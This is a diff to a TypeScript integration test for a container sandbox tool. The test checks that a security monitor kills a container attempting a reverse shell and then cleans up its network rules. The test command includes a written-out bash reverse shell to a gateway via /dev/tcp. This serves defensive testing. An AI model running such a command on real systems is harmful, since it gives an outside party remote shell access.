@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { AuditRecord } from '../../../../src/security/audit/record.js';
 import { parseTableListing } from '../../../../src/security/nft/index.js';
 import { listCoiTable } from '../../../../src/security/network/index.js';
-import { ipv4Of } from '../../../../src/shared/instance-network.js';
+import { pinnedAddresses } from '../../../../src/shared/instance-network.js';
 import { workspaceHash } from '../../../../src/shared/naming.js';
 import { CoiSandbox, ensureBuilt } from '../../../helpers/coi-cli.js';
 import { attackerListener, closeListener } from '../../../helpers/monitor-bed.js';
@@ -49,17 +49,23 @@ describe('coi run and a threat kill', () => {
     const hash = workspaceHash(ws);
     const name = `${box.prefix}${hash}-1`;
     const incus = incusApis();
-    let ip: Promise<string> | undefined;
+    // The pinned address, read as soon as the container exists: the kill can come within
+    // milliseconds of the first exec, and the network is released first.
+    let running = true;
+    const ip = (async () => {
+      while (running) {
+        const instance = await incus.instances.get(name).catch(() => undefined);
+        const [address] = instance ? pinnedAddresses(instance.value) : [];
+        if (address) return address;
+        await new Promise((resolve) => setTimeout(resolve, 50));
+      }
+      return '';
+    })();
     const r = await box.run(
       ['run', `echo started; sleep 1; bash -i >& /dev/tcp/${GATEWAY}/${PORT} 0>&1; echo survived`],
-      {
-        cwd: ws,
-        onStdout: (out) => {
-          if (!ip && out.includes('started'))
-            ip = incus.instances.getFull(name).then((i) => ipv4Of(i));
-        },
-      },
+      { cwd: ws },
     );
+    running = false;
     expect(r.code, r.stderr).toBe(137);
     expect(r.stdout).not.toContain('survived');
     const lines = r.stderr.split('\n').filter((l) => l.includes('security monitor killed'));
@@ -83,7 +89,7 @@ describe('coi run and a threat kill', () => {
     expect(names).toContain(copy);
     expect(names.filter((n) => n.startsWith(`${box.prefix}${hash}-`))).toEqual([]);
     expect(existsSync(join(box.coiDir, 'locks', `${name}.json`))).toBe(false);
-    const address = await ip!;
+    const address = await ip;
     expect(address).not.toBe('');
     const table = parseTableListing((await listCoiTable()) ?? '{"nftables":[]}');
     expect(table.containers.has(address)).toBe(false);
